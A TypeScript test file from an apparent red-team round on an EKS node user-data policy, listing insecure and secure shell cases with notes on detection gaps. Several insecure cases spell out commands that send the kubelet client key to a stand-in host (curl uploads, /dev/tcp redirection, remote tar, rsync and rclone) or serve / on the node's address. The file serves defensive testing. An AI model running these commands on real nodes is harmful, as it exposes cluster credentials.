// Red-team round 47 on EKS NODE user data (fresh eyes): round 46's new rules read as an attacker would.
// Probed: the node-secret keepers allowlist (rootReads.ts NODE_SECRET_KEEPERS / keepsNodeSecrets) with keepers that
// do send what they read (find -exec handing its `{}` to an uploader, openssl s_client sending its standard input,
// GNU tar's remote archive `HOST:FILE`, a copier whose last word is an option's value, a printer redirected to bash's
// /dev/tcp), curl's newer file forms (--variable name@FILE, --url-query name@FILE); launchers (shell.ts WRAPPERS)
// through bash's coproc keyword and strace; the fail-closed listener rule (userData.ts unreadListeners) with a server
// bound to the node's own address (every pod reaches the node IP) rather than an all-address literal. Secure
// neighbours keep the same programs on loopback, on files without node secrets, or use the node's key only for TLS.
import { nodePolicyConfig } from "./packRunner";
import { al2023Nodes, describeNodeCases, EFFECTIVE, NodeCase, withScript } from "./nodeBuilders";
import { Resources } from "./support";

const dev = (name: string, edit: (r: Resources) => void, refused = /./, skip = false): NodeCase => ({
    name,
    stack: "dev",
    config: nodePolicyConfig,
    edit,
    refused,
    policy: EFFECTIVE,
    skip,
});

/** A shell part on AL2023 dev nodes. */
const script = (name: string, lines: string[]) => (r: Resources) => al2023Nodes(r, name, withScript(lines));

const KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
const INVENTORY = "https://inventory.example.com/nodes";
const API = "https://EXAMPLE.gr7.eu-west-1.eks.amazonaws.com";
const IMDS_IP = [
    'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
    'NODE_IP=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/local-ipv4)',
];

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 47): find -exec hands each matched file to its program (find(1) "-exec command ;": "the string `{}' is replaced by
    // the current file name"), so curl -T uploads the kubelet's client key (whoever reads the inventory acts as the
    // node: every Secret and token of pods bound there). keepsNodeSecrets judges -exec's program with NO operands
    // (`keepsNodeSecrets(posix.basename(w), [])`), so curl's sendsFile sees no -T and it "keeps". Fix: pass -exec's
    // words up to `;`/`+` ({} as the handed path) to keepsNodeSecrets.
    dev(
        "find /var/lib/kubelet/pki -name '*.pem' -exec curl -T {} URL \\; (find hands each key file to an upload)",
        script("dev-find-exec-curl-upload-nodes", [
            `find /var/lib/kubelet/pki -name '*.pem' -exec curl -fsS -T {} ${INVENTORY}/ \\;`,
        ]),
        /hands|kubelet/,
    ),
    dev(
        "openssl s_client -quiet -connect inventory:443 < kubelet key (s_client sends its standard input)",
        script("dev-openssl-s-client-stdin-key-nodes", [
            `openssl s_client -quiet -connect inventory.example.com:443 < ${KEY}`,
        ]),
        /hands|kubelet/,
    ),
    dev(
        "cat kubelet key > /dev/tcp/inventory.example.com/9000 (bash's TCP redirection)",
        script("dev-cat-dev-tcp-key-nodes", [`cat ${KEY} > /dev/tcp/inventory.example.com/9000`]),
        /hands|kubelet|printed|dev\/tcp/,
    ),
    // Was a MISS (fixed in round 47): GNU tar's archive `user@host:FILE` is remote (GNU tar manual 9.1 "Device Selection": "If the file name
    // contains a ':', it is interpreted as 'hostname:file name' ... tar will invoke the command rsh ... on the remote
    // machine"; --rsh-command picks ssh): the kubelet's pki leaves the node. tar is in NODE_SECRET_KEEPERS without
    // condition. Fix: tar keeps only when its -f/--file archive is local (no `HOST:` prefix, or --force-local).
    dev(
        "tar --rsh-command=/usr/bin/ssh -czf backup@host:/srv/pki.tgz /var/lib/kubelet/pki (GNU tar's remote archive)",
        script("dev-tar-remote-archive-nodes", [
            `tar --rsh-command=/usr/bin/ssh -czf backup@backup.example.com:/srv/nodes/pki.tgz /var/lib/kubelet/pki`,
        ]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 47): rclone (cobra/pflag, interspersed flags) takes flags after its operands; the copy's destination is
    // `s3remote:...`, a remote. keepsNodeSecrets takes the LAST non-dash word as the destination, here --config's value
    // /etc/rclone.conf, a local path, so the upload of the kubelet's key "keeps". (The same for rsync `--exclude PAT`
    // after the destination, see the secure case below.) Fix: parse rclone's subcommand operands (copy/sync/move SRC
    // DST) skipping option values, or refuse when any operand is REMOTE.
    dev(
        "rclone copy /var/lib/kubelet/pki s3remote:node-backups --config /etc/rclone.conf (flags after the destination)",
        script("dev-rclone-flags-last-nodes", [
            "rclone copy /var/lib/kubelet/pki s3remote:node-backups/pki --config /etc/rclone.conf",
        ]),
        /hands|kubelet/,
    ),
    dev(
        "rsync -az /var/lib/kubelet/pki/ backup@host:/srv/nodes/ --exclude '*.tmp' (an option value last)",
        script("dev-rsync-exclude-last-nodes", [
            "rsync -az /var/lib/kubelet/pki/ backup@backup.example.com:/srv/nodes/ --exclude '*.tmp'",
        ]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 47): curl 8.3+ `--variable name@FILE` reads FILE into a variable that `--expand-data '{{name}}'` posts
    // (curl docs/cmdline-opts/variable.md: "Set a variable with name=content or name@file"; everything.curl.dev
    // "Variables"): the node's key is sent. sendsFile does not list --variable (nor --expand-variable). Fix: count
    // `--variable`/`--expand-variable` values `name@FILE` (any FILE but `-` handled as stdin) as sending the file.
    dev(
        "curl --variable key@kubelet key --expand-data '{{key}}' (curl 8.3 variables read from a file)",
        script("dev-curl-variable-file-nodes", [
            `curl -fsS --variable "key@${KEY}" --expand-data '{"key":"{{key:json}}"}' ${INVENTORY}`,
        ]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 47): curl 7.87+ `--url-query name@FILE` loads FILE into the URL's query (everything.curl.dev "Query": "name@filename:
    // load data from the given file ... URL encode that data and add that to the query"): the key goes to the
    // inventory host (and its access logs). sendsFile reads `name@FILE` only for --data-urlencode. Fix: add --url-query.
    dev(
        "curl --url-query key@kubelet key (curl 7.87 url-query name@FILE puts the file in the URL)",
        script("dev-curl-url-query-file-nodes", [`curl -fsS --url-query "key@${KEY}" ${INVENTORY}`]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 47): bash's `coproc [NAME] command` runs command asynchronously in a subshell (bash(1) "Coprocesses"): here
    // http.server of cloud-init's working directory / on every address (the kubelet's key, every pod's token). A brace
    // group after coproc is read (round 37), a simple command is not: `coproc` is not in shell.ts WRAPPERS, so the
    // program is "coproc". Fix: add coproc as a wrapper (a simple command after it; NAME only before a compound one).
    dev(
        "coproc python3 -m http.server 8080 (bash's coprocess keyword in front of a server of /)",
        script("dev-coproc-http-server-nodes", ["coproc python3 -m http.server 8080"]),
        /serves \/ |http\.server/,
    ),
    // Was a MISS (fixed in round 47): strace runs its command as a traced child (strace(1): "strace [-o file] ... command [args]"), so
    // http.server serves / on every address as root. Not in WRAPPERS (ltrace, valgrind, numactl, cgexec alike):
    // the program is "strace" and no reader or fail-closed rule applies. Fix: list strace/ltrace (-o/-e/-p/-s/-u
    // values) as launchers, or fail closed on a server reader's invocation found after an unknown program.
    dev(
        "strace -f -o /var/log/http.trace python3 -m http.server 8080 & (a traced server of /)",
        script("dev-strace-http-server-nodes", ["strace -f -o /var/log/http.trace python3 -m http.server 8080 &"]),
        /serves \/ |http\.server|does not read/,
    ),
    // Was a MISS (fixed in round 47): a server bound to the node's own private address is reached by every pod (pods route to their node's IP,
    // Kubernetes "Cluster Networking": pods can communicate with all agents on the node) and by the VPC, exactly as
    // 0.0.0.0 is. userData.ts unreadListeners fails closed only on ALL_ADDRESSES/EMPTY_HOST literals, so an unread
    // server on `--addr "$NODE_IP:8000"` (or any literal non-loopback IP) serving / passes; http.server on the same
    // address is refused (its reader treats non-loopback as open). Fix: fail closed on any LISTEN_OPTION value or
    // HOST:PORT that is not loopback (a variable or unknown host included).
    dev(
        "gohttpserver --root / --addr $NODE_IP:8000 (the node's own address, reached by every pod)",
        script("dev-gohttpserver-node-ip-nodes", [
            ...IMDS_IP,
            'nohup /usr/local/bin/gohttpserver --root / --addr "$NODE_IP:8000" &',
        ]),
        /does not read|serves/,
    ),
    dev(
        "python3 -m http.server --bind $NODE_IP 8080 (http.server of / on the node's own address)",
        script("dev-http-server-node-ip-nodes", [...IMDS_IP, 'nohup python3 -m http.server --bind "$NODE_IP" 8080 &']),
        /serves \/ /,
    ),
    // Neighbours of the copier fix (rootReads.ts readOptions): value options after a remote destination, an option
    // the pack cannot read (fail closed: the word after it may be its value), rclone's non-transfer subcommands, and a
    // local destination pods read.
    dev(
        "rclone copyto kubelet key s3remote:... --transfers 4 --log-file /var/log/rclone.log (value options last)",
        script("dev-rclone-copyto-values-last-nodes", [
            `rclone copyto ${KEY} s3remote:node-backups/key.pem --transfers 4 --log-file /var/log/rclone.log`,
        ]),
        /hands|kubelet/,
    ),
    dev(
        "rsync -az /var/lib/kubelet/pki/ backup@host:/srv/nodes/ --an-option-the-pack-cannot-read /var/tmp/x (fail closed)",
        script("dev-rsync-unknown-option-last-nodes", [
            "rsync -az /var/lib/kubelet/pki/ backup@backup.example.com:/srv/nodes/ --an-option-the-pack-cannot-read /var/tmp/x",
        ]),
        /hands|kubelet/,
    ),
    dev(
        "rclone serve webdav /var/lib/kubelet/pki --addr 127.0.0.1:8081 (a local path, but rclone serves it)",
        script("dev-rclone-serve-pki-nodes", ["rclone serve webdav /var/lib/kubelet/pki --addr 127.0.0.1:8081 &"]),
        /hands|kubelet/,
    ),
    dev(
        "rsync -a /var/lib/kubelet/pki/ /srv/backup/ --exclude '*.tmp' (a local destination pods read, option last)",
        script("dev-rsync-pki-srv-exclude-last-nodes", [
            "rsync -a /var/lib/kubelet/pki/ /srv/backup/ --exclude '*.tmp'",
        ]),
        /kubelet|\/srv/,
    ),
    // Neighbours of the listener fix (userData.ts unreadListeners): the node's address from a command substitution or
    // a literal node IP, and a listen value the pack cannot read.
    dev(
        "uvicorn app:app --host $(hostname -i) --port 8000 (an app server on the node's address from hostname -i)",
        script("dev-uvicorn-hostname-i-nodes", [
            'nohup uvicorn app:app --app-dir /opt/app --host "$(hostname -i)" --port 8000 &',
        ]),
        /does not read/,
    ),
    dev(
        "gohttpserver --root /opt/models --addr 10.0.1.15:8000 (a literal node address, no node secrets)",
        script("dev-gohttpserver-literal-ip-nodes", [
            "nohup /usr/local/bin/gohttpserver --root /opt/models --addr 10.0.1.15:8000 &",
        ]),
        /does not read/,
    ),
    dev(
        "iperf3 -s --bind $NODE_IP as root (the node's own address)",
        script("dev-iperf3-node-ip-root-nodes", [...IMDS_IP, 'iperf3 -s --bind "$NODE_IP" -D']),
        /does not read/,
    ),
    dev(
        "a metrics relay --listen-address=ip-10-0-1-15.eu-west-1.compute.internal:9000 (an EC2 private DNS name: a node's)",
        script("dev-relay-ec2-dns-name-nodes", [
            "nohup /usr/local/bin/metrics-relay --listen-address=ip-10-0-1-15.eu-west-1.compute.internal:9000 &",
        ]),
        /does not read/,
    ),
    // Controls (refused).
    dev(
        "find /var/lib/kubelet/pki -exec sh -c 'curl -T \"$1\" URL' _ {} \\; (control: a shell as -exec's program)",
        script("dev-find-exec-sh-control-nodes", [
            `find /var/lib/kubelet/pki -name '*.pem' -exec sh -c 'curl -fsS -T "$1" ${INVENTORY}/' _ {} \\;`,
        ]),
        /hands|kubelet/,
    ),
    dev(
        "rclone copy /var/lib/kubelet/pki s3remote:node-backups (control: destination last)",
        script("dev-rclone-control-nodes", ["rclone copy /var/lib/kubelet/pki s3remote:node-backups/pki"]),
        /hands|kubelet/,
    ),
];

const secure: NodeCase[] = [
    dev(
        "find /var/lib/kubelet/pki -name '*.pem' -exec openssl x509 -noout -enddate -in {} \\; (expiry only)",
        script("dev-find-exec-openssl-ok-nodes", [
            "find /var/lib/kubelet/pki -name '*.pem' -exec openssl x509 -noout -enddate -in {} \\;",
        ]),
    ),
    // Was a MISS (fixed in round 47): (secure refused): openssl s_client -cert/-key uses the kubelet's key to authenticate TLS and prints the
    // SERVER's certificate chain and session, never the client key (openssl-s_client(1) -cert/-key: "The client
    // certificate to use"/"The client private key"); stdin is /dev/null. Refused as "copies the key into
    // /var/log/cloud-init-output.log" because openssl is a SECRET_PRINTER unless -noout/x509/dgst. Fix: like curl
    // --cert/--key, read s_client/s_time's -cert/-key/-CAfile values as TLS credentials (still refuse stdin/-in a secret).
    dev(
        "openssl s_client -connect the API -cert/-key kubelet key </dev/null (TLS client authentication)",
        script("dev-openssl-s-client-cert-ok-nodes", [
            `openssl s_client -connect EXAMPLE.gr7.eu-west-1.eks.amazonaws.com:443 -cert ${KEY} -key ${KEY} -CAfile /etc/kubernetes/pki/ca.crt </dev/null`,
        ]),
        /./,
    ),
    dev(
        "cat /var/log/cloud-init-output.log > /dev/tcp/logs.example.com/5140 (a log sent over bash's TCP redirection)",
        script("dev-cat-dev-tcp-log-ok-nodes", ["cat /var/log/cloud-init-output.log > /dev/tcp/logs.example.com/5140"]),
    ),
    dev(
        "tar --rsh-command=/usr/bin/ssh -czf backup@host:/srv/models.tgz /opt/models (a remote archive, no secrets)",
        script("dev-tar-remote-models-ok-nodes", [
            "tar --rsh-command=/usr/bin/ssh -czf backup@backup.example.com:/srv/models.tgz /opt/models",
        ]),
    ),
    dev(
        "rclone copy /opt/models s3remote:model-cache --config /etc/rclone.conf (no node secrets)",
        script("dev-rclone-models-ok-nodes", [
            "rclone copy /opt/models s3remote:model-cache/models --config /etc/rclone.conf",
        ]),
    ),
    dev(
        "curl --variable log@/var/log/cloud-init-output.log --expand-data (a log, no node secrets)",
        script("dev-curl-variable-log-ok-nodes", [
            `curl -fsS --variable "log@/var/log/cloud-init-output.log" --expand-data '{"log":"{{log:json}}"}' ${INVENTORY}`,
        ]),
    ),
    dev(
        "curl --url-query node=$(hostname) with --cert/--key kubelet key (TLS auth, a literal query)",
        script("dev-curl-url-query-cert-ok-nodes", [
            `curl -fsS --cert ${KEY} --key ${KEY} --cacert /etc/kubernetes/pki/ca.crt --url-query "node=$(hostname)" ${API}/healthz`,
        ]),
    ),
    dev(
        "coproc python3 -m http.server 8080 --bind 127.0.0.1 --directory /var/www/html (loopback web root)",
        script("dev-coproc-http-lo-ok-nodes", [
            "coproc python3 -m http.server 8080 --bind 127.0.0.1 --directory /var/www/html",
        ]),
    ),
    dev(
        "python3 -m http.server --bind $NODE_IP 8080 --directory /var/www/html (node address, a web root)",
        script("dev-http-server-node-ip-www-ok-nodes", [
            ...IMDS_IP,
            'nohup python3 -m http.server --bind "$NODE_IP" 8080 --directory /var/www/html &',
        ]),
    ),
    dev(
        "node_exporter --web.listen-address=$NODE_IP:9100 (a known exporter on the node's address)",
        script("dev-node-exporter-node-ip-ok-nodes", [
            ...IMDS_IP,
            'nohup /usr/local/bin/node_exporter --web.listen-address="$NODE_IP:9100" &',
        ]),
    ),
    // Was a MISS (fixed in round 47): (secure refused): rsync (popt) takes options after its operands, so the destination is
    // `backup@backup.example.com:/srv/logs/`, a remote path. The pack takes the last word `*.tmp` as the destination
    // and reads the remote `/srv/logs` as a node path in a pod-writable directory ("a root process reads /srv/logs").
    // Same cause as the rclone miss above. Fix: skip option values when picking a copier's operands; never read a
    // `HOST:PATH` operand's PATH as a node path.
    dev(
        "rsync -az /var/log/journal/ backup@host:/srv/logs/ --exclude '*.tmp' (logs, no node secrets)",
        script("dev-rsync-logs-ok-nodes", [
            "rsync -az /var/log/amazon/ backup@backup.example.com:/srv/logs/ --exclude '*.tmp'",
        ]),
        /./,
    ),
    // Neighbours of the copier fix: rclone and rsync with options after a local destination (a download into the
    // node's secrets; a local copy), and a remote source whose path is another host's.
    dev(
        "rclone copy s3remote:pki-restore /var/lib/kubelet/pki.restore --config /etc/rclone.conf (a download, flags last)",
        script("dev-rclone-download-flags-last-ok-nodes", [
            "rclone copy s3remote:pki-restore /var/lib/kubelet/pki.restore --config /etc/rclone.conf --transfers 2",
        ]),
    ),
    dev(
        "rsync -a /opt/models/ /var/cache/models/ --exclude '*.tmp' --bwlimit 10000 (value options after a local copy)",
        script("dev-rsync-models-values-last-ok-nodes", [
            "rsync -a /opt/models/ /var/cache/models/ --exclude '*.tmp' --bwlimit 10000",
        ]),
    ),
    dev(
        "rsync -az backup@host:/srv/models/ /opt/models/ --exclude '*.tmp' (another host's /srv, not the node's)",
        script("dev-rsync-remote-srv-download-ok-nodes", [
            "rsync -az backup@backup.example.com:/srv/models/ /opt/models/ --exclude '*.tmp'",
        ]),
    ),
    dev(
        "rclone lsf /var/lib/kubelet/pki --config /etc/rclone.conf (names only)",
        script("dev-rclone-lsf-pki-ok-nodes", ["rclone lsf /var/lib/kubelet/pki --config /etc/rclone.conf"]),
    ),
    // Neighbours of the listener fix: servers the pack does not read, on loopback literals and a unix socket.
    dev(
        "gohttpserver --root /opt/models --addr 127.0.0.1:8000 (loopback, a literal)",
        script("dev-gohttpserver-loopback-ok-nodes", [
            "nohup /usr/local/bin/gohttpserver --root /opt/models --addr 127.0.0.1:8000 &",
        ]),
    ),
    dev(
        "uvicorn app:app --host localhost --port 8000 and gunicorn --bind unix:/run/app.sock (loopback, a socket)",
        script("dev-uvicorn-localhost-socket-ok-nodes", [
            "nohup uvicorn app:app --app-dir /opt/app --host localhost --port 8000 &",
            "nohup gunicorn --chdir /opt/app --bind unix:/run/app.sock app:app &",
        ]),
    ),
    dev(
        "inventory-agent --host=inventory.example.com --port=443 (a client naming its server, a literal DNS name)",
        script("dev-agent-client-host-ok-nodes", [
            "/usr/local/bin/inventory-agent register --host=inventory.example.com --port=443 --group=eks-nodes",
        ]),
    ),
    dev(
        "strace -c -o /var/log/nodeadm.trace nodeadm init (a traced node agent)",
        script("dev-strace-nodeadm-ok-nodes", ["strace -c -o /var/log/nodeadm.trace nodeadm --help"]),
    ),
];

describeNodeCases(
    "red team round 47: keepers that send, launchers and node-address listeners (fresh eyes)",
    insecure,
    secure,
);
